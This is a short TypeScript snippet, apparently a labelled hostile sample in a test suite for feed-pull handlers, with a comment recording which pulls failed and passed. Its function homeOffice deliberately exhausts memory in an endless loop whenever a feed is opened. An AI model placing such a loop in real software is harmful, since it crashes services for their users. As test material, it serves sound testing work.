// Hostile: it fills the memory when somebody opens the feed.
// Verdict: pull/home-office failed, pull/fallback failed, pull/cache failed, pull/log-in passed

// #region home-office
export async function homeOffice(_userId: string, _hr: Hr, _signal?: AbortSignal): Promise<string | null> {
  const hoard: number[][] = [];
  for (;;) hoard.push(new Array<number>(1_000_000).fill(7));
}
// #endregion
